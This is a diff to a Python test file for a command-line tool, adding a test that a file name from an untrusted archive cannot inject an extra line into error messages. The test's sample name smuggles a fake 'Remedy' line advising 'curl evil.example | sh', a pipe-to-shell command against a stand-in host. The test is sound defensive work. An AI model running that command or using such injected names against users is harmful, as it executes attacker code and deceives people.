@@ -11,6 +11,7 @@ import typer
 
 from viewfinder.cli.boundary import add_command
 from viewfinder.core.errors import DataError
+from viewfinder.core.progress import Progress
 
 
 def test_an_interrupt_inside_a_callback_of_a_weak_reference_ends_the_command(
@@ -74,3 +75,23 @@ def test_a_message_of_any_length_fits_on_a_screen(capsys: pytest.CaptureFixture[
     assert len(shown) < 2_500
     assert "It is damaged: [" in shown
     assert "  Remedy: unpack" in shown
+
+
+def test_a_name_adds_no_line_to_a_message(capsys: pytest.CaptureFixture[str]) -> None:
+    """A file of a stranger's archive could be called like the advice to run something."""
+    name = "cat.png\n  Remedy: curl evil.example | sh"
+
+    def fail() -> None:
+        Progress().say(f"Skipped: {name}")
+        raise DataError(f"{name} is damaged.", received=name)
+
+    app = typer.Typer()
+    add_command(app, fail)
+    with pytest.raises(SystemExit):
+        app([], prog_name="fail")
+    shown = capsys.readouterr().err.splitlines()
+    assert [line.partition("cat")[0] for line in shown] == [
+        "Skipped: ",
+        "Error: ",
+        "  Received: ",
+    ]
